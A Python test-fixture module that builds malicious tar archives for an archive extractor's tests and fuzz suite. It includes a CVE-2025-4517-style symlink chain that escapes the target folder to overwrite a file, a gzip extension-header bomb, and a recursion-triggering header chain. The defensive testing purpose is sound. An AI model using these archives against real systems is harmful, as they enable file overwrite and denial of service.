"""Crafted tar files shared by the archive tests (``tests/data``) and the archive fuzz suite (``tests/fuzz``).

Import as ``from tests.data.tar_helpers import ...`` (the repository root is on ``sys.path`` under
``python -m pytest``, and ``tests`` is a namespace package).
"""

from __future__ import annotations

import io
import tarfile
from pathlib import Path


def add(tar: tarfile.TarFile, name: str, kind: bytes = tarfile.REGTYPE, data: bytes = b"", linkname: str = "",
        size: int | None = None) -> None:
    """Add one member of any type; ``size`` declares a size other than the data's (a lying header)."""
    info = tarfile.TarInfo(name)
    info.type, info.linkname = kind, linkname
    info.size = len(data) if size is None else size
    tar.addfile(info, io.BytesIO(data) if kind == tarfile.REGTYPE else None)


def symlink_chain_tar(path: Path, up: int, extra: dict[str, bytes] | None = None) -> Path:
    """A CVE-2025-4517-style tar: a chain of symbolic links whose resolved path exceeds PATH_MAX hides a link
    that leads ``up`` folders above the target to ``outside/keep.txt``, which a hard link and a regular member
    then overwrite. ``tarfile``'s ``filter="data"`` on Python 3.11.7 lets it through. ``extra`` members (a
    manifest) come first."""
    comp, steps = "d" * 247, "abcdefghijklmnop"
    with tarfile.open(path, "w") as tar:
        for name, data in (extra or {}).items():
            add(tar, name, data=data)
        prefix = ""
        for step in steps:
            add(tar, prefix + comp, tarfile.DIRTYPE)
            add(tar, prefix + step, tarfile.SYMTYPE, linkname=comp)
            prefix += comp + "/"
        long_link = "/".join(steps) + "/" + "l" * 254
        add(tar, long_link, tarfile.SYMTYPE, linkname="../" * len(steps))
        add(tar, "escape", tarfile.SYMTYPE, linkname=long_link + "/" + "../" * up + "outside/keep.txt")
        add(tar, "flaglink", tarfile.LNKTYPE, linkname="escape")
        add(tar, "flaglink", data=b"pwned")
    return path


class _Zeros(io.RawIOBase):
    """``size`` zero bytes, produced as read (a large member without holding it in memory)."""

    def __init__(self, size: int) -> None:
        self.left = size

    def readable(self) -> bool:
        return True

    def readinto(self, buffer) -> int:
        count = min(len(buffer), self.left)
        buffer[:count] = bytes(count)
        self.left -= count
        return count


def _extension(kind: bytes, size: int) -> tarfile.TarInfo:
    info = tarfile.TarInfo("././@LongLink")
    info.type, info.size = kind, size
    return info


def header_bomb_tar(path: Path, declared: int, kind: bytes = tarfile.GNUTYPE_LONGNAME,
                    extra: dict[str, bytes] | None = None) -> Path:
    """A ``.tar.gz`` whose one extension header (GNU long name by default, or pax ``x``/``g``) declares and holds
    ``declared`` zero bytes (about 1 MB compressed per GiB), followed by a small regular member."""
    with tarfile.open(path, "w:gz", format=tarfile.GNU_FORMAT) as tar:
        for name, data in (extra or {}).items():
            add(tar, name, data=data)
        tar.addfile(_extension(kind, declared), _Zeros(declared))
        add(tar, "after.txt", data=b"after")
    return path


def header_chain_tar(path: Path, count: int, kind: bytes = tarfile.GNUTYPE_LONGNAME,
                     extra: dict[str, bytes] | None = None) -> Path:
    """A tar with ``count`` small extension headers in a row before one regular member (``tarfile`` nests one
    call per header: 2000 of them raised ``RecursionError``)."""
    with tarfile.open(path, "w", format=tarfile.GNU_FORMAT) as tar:
        for name, data in (extra or {}).items():
            add(tar, name, data=data)
        for _ in range(count):
            tar.addfile(_extension(kind, 8), io.BytesIO(b"chained\0"))
        add(tar, "after.txt", data=b"after")
    return path
